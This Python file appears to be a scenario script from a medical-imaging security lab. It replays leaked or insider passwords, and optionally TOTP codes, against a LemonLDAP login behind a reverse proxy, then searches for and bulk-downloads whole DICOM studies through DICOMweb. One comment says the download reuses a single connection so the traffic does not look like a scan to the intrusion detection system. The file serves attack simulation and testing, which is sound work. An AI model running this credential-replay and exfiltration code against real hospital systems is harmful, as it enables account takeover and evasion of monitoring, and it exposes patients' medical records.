"""From this host, each attempt of args.attempts ({user, password} or {user, real: true}: the
person's real password, from CONTEXT['passwords'], as a breach leaked it (W6) or as its owner types
it (W8)) signs in to what the reverse proxy publishes, as a script with a browser's manners would:
a new cookie jar, the page args.path, the redirects to the IdP (published by the proxy), its login
form filled with user and password. With `code: true` the second-factor form then gets the TOTP
code of the current RFC 6238 step, or of the next one when the IdP took a code of the current step
already, from CONTEXT['codes'] (the person's own: an insider; "code_step" in the attempt's result
says which step's, null when none fits, and then nothing is typed); without it, no code (an
attacker has none). Then the page once more with the same cookies. Result per attempt: the user,
LemonLDAP's result codes on the page the password led to (5 bad credentials; the second-factor
form shows none), whether that page asks for a code, whether the browser came back to the proxy
signed in, and the HTTP status of the page when asked again (200: a session; 302: sent to the IdP
again). Plus the codes, per attempt.

With args.export ({accession_of: the id of an earlier step whose result names an "accession"
(lib/acquire.py)}), a signed-in attempt then searches for that Accession Number by QIDO-RS at the
proxy (PS3.18 10.6) with its session and retrieves every study found by WADO-RS (PS3.18 10.4,
/dicom-web/studies/{uid}, the whole study as multipart/related application/dicom), over one
connection kept alive as a browser does: per attempt "export" {found, retrieved (answered 200),
statuses (the other answers, by status), bytes}, and "found" and "exported": the studies found and
retrieved per attempt (null where no session)."""

import collections
import html.parser
import http.client
import http.cookiejar
import json
import ssl
import time
import urllib.error
import urllib.parse
import urllib.request

args, hosts = CONTEXT["args"], CONTEXT["hosts"]  # noqa: F821 (given by the scenario runner)
real, codes = CONTEXT["passwords"], CONTEXT["codes"]  # noqa: F821
proxy = next(name for name, h in sorted(hosts.items()) if h["deployed"] and "reverse_proxies" in h["groups"])
start = f"https://{proxy}{args['path']}"
context = ssl.create_default_context(cafile="/etc/pacslab/tls/root.pem")
NAVIGATE = {"Accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"}
SEARCH = {"Accept": "application/dicom+json"}
RETRIEVE = {"Accept": 'multipart/related; type="application/dicom"'}
TOTP_STEP = CONTEXT["totp_step"]  # noqa: F821 (seconds: RFC 6238's time step, pacslab.people.TOTP_STEP)
typed = set()  # (person, step) of each code typed in this run
STUDY_UID = "0020000D"  # Study Instance UID, as the DICOM JSON model keys it (PS3.18 F.2)


class OwnHost(http.cookiejar.DefaultCookiePolicy):
    """A cookie whose Domain is the host itself (the lab's one-label names: idp, rproxy) is kept and
    sent back to it, as browsers do (RFC 6265 5.3); Python's own policy wants a dot."""

    @staticmethod
    def _own(cookie, request):
        return cookie.domain.lstrip(".") == urllib.parse.urlsplit(request.get_full_url()).hostname

    def set_ok_domain(self, cookie, request):
        return self._own(cookie, request) or super().set_ok_domain(cookie, request)

    def return_ok_domain(self, cookie, request):
        return self._own(cookie, request) or super().return_ok_domain(cookie, request)


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *a, **k):
        return None


class Page(html.parser.HTMLParser):
    """The page's forms (action, fields) and LemonLDAP's result codes (trmsg attributes)."""

    def __init__(self):
        super().__init__()
        self.forms, self.trmsg = [], []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append({"action": a.get("action") or "", "fields": {}})
        elif tag in ("input", "button") and self.forms and a.get("name"):
            self.forms[-1]["fields"].setdefault(a["name"], a.get("value") or "")
        if a.get("trmsg", "").isdigit():
            self.trmsg.append(int(a["trmsg"]))


def export(jar, search):
    """Search with the session, then retrieve each study found, over one kept-alive connection as a
    viewer's browser would (a new connection per request would look like a scan to the IDS):
    {found, retrieved, statuses, bytes}."""
    connection = http.client.HTTPSConnection(proxy, context=context, timeout=60)

    def get(path, headers):
        request = urllib.request.Request(f"https://{proxy}{path}", headers=headers)
        jar.add_cookie_header(request)  # the session's cookies, as the jar would send them
        connection.request("GET", path, headers=dict(request.header_items()))
        answer = connection.getresponse()
        return answer.status, answer.read()

    status, body = get(search, SEARCH)
    if status != 200:
        return {"found": None, "search_status": status}
    uids = [s[STUDY_UID]["Value"][0] for s in json.loads(body or b"[]")]
    statuses, size = collections.Counter(), 0
    for uid in uids:
        status, body = get(f"/dicom-web/studies/{uid}", RETRIEVE)
        statuses[status] += 1
        size += len(body) if status == 200 else 0
    connection.close()
    return {"found": len(uids), "retrieved": statuses.pop(200, 0), "statuses": {str(k): v for k, v in sorted(statuses.items())}, "bytes": size}


def attempt(user, password, code=False):
    jar = http.cookiejar.CookieJar(OwnHost())
    opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=context), urllib.request.HTTPCookieProcessor(jar), NoRedirect)

    def go(url, data=None):
        """Follow redirects from url (a POST first when data is given); the last page's URL, status, parsed page."""
        for _ in range(10):
            body = urllib.parse.urlencode(data).encode() if data is not None else None
            try:
                answer = opener.open(urllib.request.Request(url, data=body, headers=NAVIGATE), timeout=20)
            except urllib.error.HTTPError as exc:
                answer = exc
            data = None
            if answer.status in (301, 302, 303, 307) and answer.headers.get("Location"):
                url = urllib.parse.urljoin(url, answer.headers["Location"])
                continue
            page = Page()
            page.feed(answer.read().decode("utf-8", "replace"))
            return url, answer.status, page
        return url, None, Page()

    url, _, page = go(start)
    form = next((f for f in page.forms if {"user", "password"} <= set(f["fields"])), None)
    if form is None:
        return {"user": user, "error": f"no login form at {urllib.parse.urlsplit(url).netloc}"}
    action = urllib.parse.urljoin(url, form["action"]) if form["action"] not in ("", "#") else url
    url, _, page = go(action, dict(form["fields"]) | {"user": user, "password": password})
    second = next((f for f in page.forms if "code" in f["fields"]), None)
    asks_code = second is not None
    code_step = None
    if second is not None and code:
        # the person's own code: the current RFC 6238 step's, else the next one's (the IdP took a code of
        # the current step already; a verifier that takes one step either side accepts it), never one typed
        # before in this run (the IdP refuses a replay); none fits: nothing is typed
        step = int(time.time() // TOTP_STEP)
        code_step = next((s for s in (step, step + 1) if str(s) in codes[user] and (user, s) not in typed), None)
        if code_step is not None:
            typed.add((user, code_step))
            action = urllib.parse.urljoin(url, second["action"]) if second["action"] not in ("", "#") else url
            url, _, page = go(action, dict(second["fields"]) | {"code": codes[user][str(code_step)]})
    signed_in = urllib.parse.urlsplit(url).netloc == proxy
    try:
        again = opener.open(urllib.request.Request(start, headers=NAVIGATE), timeout=20).status
    except urllib.error.HTTPError as exc:
        again = exc.code
    result = {"user": user, "trmsg": page.trmsg, "asks_code": asks_code, "signed_in": signed_in, "viewer_again": again}
    if code:
        result["code_step"] = code_step
    if args.get("export") and again == 200:
        accession = CONTEXT["run"][args["export"]["accession_of"]]["accession"]  # noqa: F821
        result["export"] = export(jar, "/dicom-web/studies?AccessionNumber=" + urllib.parse.quote(accession))
    return result


results = [attempt(a["user"], real[a["user"]] if a.get("real") else a["password"], a.get("code", False)) for a in args["attempts"]]
print(json.dumps({
    "attempts": results,
    "trmsg": [r.get("trmsg") for r in results],
    "asks_code": [r.get("asks_code") for r in results],
    "signed_in": [r.get("signed_in") for r in results],
    "viewer_again": [r.get("viewer_again") for r in results],
    "found": [r["export"].get("found") if "export" in r else None for r in results],
    "exported": [r["export"].get("retrieved") if "export" in r else None for r in results],
}))
